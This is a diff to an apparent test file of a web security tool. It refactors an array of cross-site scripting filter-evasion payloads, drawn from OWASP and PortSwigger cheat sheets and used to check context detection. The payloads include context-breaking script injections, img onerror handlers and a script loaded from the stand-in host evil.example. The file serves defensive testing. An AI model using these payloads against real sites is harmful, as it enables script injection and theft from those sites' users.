@@ -1,3 +1,5 @@
+import { words } from '../support/words';
+
 // Common filter evasions (cheat sheets of OWASP and PortSwigger) for every context of the pages. The contexts are text, attributes,
 // title, style, script and URLs. `watchContext` detects each of them if it runs.
 const scripts = [
@@ -5,13 +7,9 @@ const scripts = [
   '<ScRiPt >__pwned=1</sCrIpT >',
   '<script src=//evil.example/x.js></script>',
   '<<script>__pwned=1;//<</script>',
-  '</title><script>__pwned=1</script>',
-  '</style><script>__pwned=1</script>',
-  '</script><script>__pwned=1</script>',
-  '</noscript><script>__pwned=1</script>',
-  '</textarea><script>__pwned=1</script>',
-  '--><script>__pwned=1</script><!--',
-  ']]><script>__pwned=1</script>',
+  ...words('</title> </style> </script> </noscript> </textarea> ]]> -->').map(
+    (end) => `${end}<script>__pwned=1</script>`,
+  ),
   '<img src=x onerror=__pwned=1>',
   '<img src=//evil.example/pixel>',
   '<img/src="x"/onerror=alert(1)>',
